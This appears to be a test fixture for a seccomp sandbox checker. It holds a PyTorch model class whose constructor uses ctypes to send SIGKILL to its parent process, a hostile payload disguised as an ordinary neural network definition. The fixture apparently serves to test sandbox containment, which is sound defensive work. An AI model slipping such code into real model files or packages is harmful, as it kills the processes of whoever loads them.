# expect: refuted not-observed
# needs: seccomp
import ctypes
import os

from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        ctypes.CDLL(None).kill(os.getppid(), 9)
        self.layer = nn.Linear(2, 2)
